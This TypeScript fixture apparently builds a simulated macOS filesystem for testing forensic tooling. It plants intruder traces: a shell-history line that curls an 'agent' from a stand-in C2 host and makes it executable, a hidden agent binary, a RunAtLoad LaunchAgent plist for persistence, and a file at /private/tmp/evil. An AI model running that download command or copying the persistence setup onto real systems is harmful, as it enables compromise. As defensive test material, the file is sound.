import type { Planter } from '../files/planter.ts';
import type { UnixProfile } from './unix-profile.ts';

/** What a Mac has, and what an intruder left on it. */
export function plantMac(
  planter: Planter,
  { spec, home, user, bootTime, product }: UnixProfile,
  magic: Uint8Array,
): void {
  for (const path of [
    '/Applications',
    '/Library/LaunchDaemons',
    '/Library/Logs',
    '/Network',
    '/System/Library',
    '/Users/Shared',
    '/Volumes',
    '/cores',
    '/private/tmp',
    '/private/var/tmp',
    '/tmp',
    '/usr/bin',
    '/usr/lib',
    '/usr/local/bin',
    '/usr/sbin',
    '/var/tmp',
  ]) {
    planter.directory(path);
  }
  planter.text(
    '/etc/hosts',
    '127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n',
  );
  planter.text('/etc/passwd', 'root:*:0:0:System Administrator:/var/root:/bin/sh\n');
  planter.text(
    '/System/Library/CoreServices/SystemVersion.plist',
    systemVersion(product.replace('macOS ', '')),
  );
  planter.binary('/Applications/Safari.app/Contents/MacOS/Safari', 34_000, magic, { executable: true });
  planter.binary('/Applications/CarbonBlack/CbOsxSensorService', 6_000_000, magic, { executable: true });
  planter.binary('/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', 1_400_000, magic, {
    executable: true,
  });
  planter.text(
    '/var/log/system.log',
    Array.from({ length: 20 }, (_, index) => `${spec.hostname} kernel[0]: message ${index}\n`).join(''),
  );
  planter.text('/var/log/install.log', `${spec.hostname} Installer: package receipt written\n`);
  for (const folder of [
    'Desktop',
    'Documents',
    'Downloads',
    'Library/Application Support',
    'Library/Preferences',
    'Movies',
    'Music',
    'Pictures',
  ]) {
    planter.directory(`${home}/${folder}`);
  }
  planter.text(
    `${home}/.zsh_history`,
    'curl -fsSL https://c2.example.invalid/agent -o agent\nchmod +x agent\n',
    'utf8',
    { written: bootTime + 380 },
  );
  planter.text(`${home}/Documents/Grüße.txt`, `from ${user}: schöne Grüße\n`);
  planter.binary(`${home}/Downloads/Invoice 4711.dmg`, 812_400, Buffer.from('koly'), {
    written: bootTime + 370,
  });
  planter.binary(`${home}/Library/.update/agent`, 1_204_224, magic, {
    executable: true,
    written: bootTime + 395,
  });
  planter.text(`${home}/Library/LaunchAgents/com.example.update.plist`, launchAgent(home), 'utf8', {
    written: bootTime + 396,
  });
  planter.binary('/private/tmp/evil', 73_802, magic, { executable: true, written: bootTime + 630 });
}

const systemVersion = (version: string) =>
  [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<plist version="1.0"><dict>',
    '<key>ProductName</key><string>macOS</string>',
    `<key>ProductVersion</key><string>${version}</string>`,
    '</dict></plist>',
    '',
  ].join('\n');

function launchAgent(home: string): string {
  return [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<plist version="1.0"><dict>',
    '<key>Label</key><string>com.example.update</string>',
    `<key>ProgramArguments</key><array><string>${home}/Library/.update/agent</string></array>`,
    '<key>RunAtLoad</key><true/>',
    '</dict></plist>',
    '',
  ].join('\n');
}
